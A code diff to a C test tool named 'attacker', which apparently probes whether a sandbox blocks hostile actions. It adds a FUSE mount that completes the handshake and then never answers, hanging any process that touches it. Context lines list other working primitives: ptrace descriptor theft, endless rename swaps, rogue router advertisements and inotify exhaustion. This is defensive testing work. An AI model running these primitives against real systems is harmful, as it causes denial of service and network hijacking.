@@ -7,6 +7,7 @@
  *   attacker trace SECONDS      attach to whoever comes in, and take its descriptors
  *   attacker exchange A B SECONDS    exchange two names without end
  *   attacker router SECONDS     say on eth0 that it is a router for everybody
+ *   attacker fuse DIRECTORY SECONDS  mount there what answers nothing
  *   attacker inotify SECONDS    take all inotify instances that there are, and keep them
  *
  * It prints one line for each thing it got, and one for each that it was refused.
@@ -17,6 +18,7 @@
 #include <dirent.h>
 #include <errno.h>
 #include <fcntl.h>
+#include <linux/fuse.h>
 #include <linux/mount.h>
 #include <net/if.h>
 #include <netinet/icmp6.h>
@@ -25,6 +27,7 @@
 #include <stdlib.h>
 #include <string.h>
 #include <sys/inotify.h>
+#include <sys/mount.h>
 #include <sys/ptrace.h>
 #include <sys/resource.h>
 #include <sys/socket.h>
@@ -218,6 +221,35 @@ static void exchange(const char *a, const char *b)
 		(void)syscall(SYS_renameat2, AT_FDCWD, a, AT_FDCWD, b, 2 /* RENAME_EXCHANGE */);
 }
 
+/* ---- fuse ---- */
+
+/* Agree on the protocol, which the kernel waits for, and let it wait ever after. */
+static void mount_silence(const char *dir)
+{
+	static unsigned char request[1 << 20];
+	const struct fuse_in_header *head = (struct fuse_in_header *)request;
+	struct {
+		struct fuse_out_header head;
+		struct fuse_init_out   init;
+	} answer = { .head.len = sizeof(answer), .init.major = FUSE_KERNEL_VERSION,
+		     .init.minor = FUSE_KERNEL_MINOR_VERSION, .init.max_write = 4096 };
+	int fd = open("/dev/fuse", O_RDWR);
+	char options[80];
+
+	(void)snprintf(options, sizeof(options),
+		       "fd=%d,rootmode=40755,user_id=0,group_id=0,allow_other", fd);
+	if (fd < 0 || mount("silence", dir, "fuse", 0, options) < 0 ||
+	    read(fd, request, sizeof(request)) < 0) {
+		printf("refused: %s\n", strerror(errno));
+		return;
+	}
+	answer.head.unique = head->unique;
+	if (write(fd, &answer, sizeof(answer)) > 0)
+		printf("mounted\n");
+	while (!is_over() && read(fd, request, sizeof(request)) > 0)
+		;
+}
+
 /* ---- inotify ---- */
 
 static void take_instances(void)
@@ -284,6 +316,8 @@ int main(int argc, char **argv)
 		attack_trace();
 	else if (strcmp(argv[1], "exchange") == 0 && argc == 5)
 		exchange(argv[2], argv[3]);
+	else if (strcmp(argv[1], "fuse") == 0 && argc == 4)
+		mount_silence(argv[2]);
 	else if (strcmp(argv[1], "router") == 0)
 		advertise();
 	else if (strcmp(argv[1], "inotify") == 0)
